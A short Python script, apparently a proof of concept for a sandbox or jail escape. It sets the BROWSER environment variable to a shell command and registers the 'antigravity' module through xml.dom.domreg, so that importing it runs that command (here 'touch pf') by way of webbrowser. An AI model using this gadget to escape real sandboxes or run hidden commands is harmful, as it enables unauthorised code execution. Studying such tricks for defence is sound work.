import os
from xml.dom import domreg
os.environ["BROWSER"] = "touch pf #%s"
domreg.well_known_implementations["a"] = "antigravity"
try:
    domreg.getDOMImplementation("a")
except Exception:
    pass
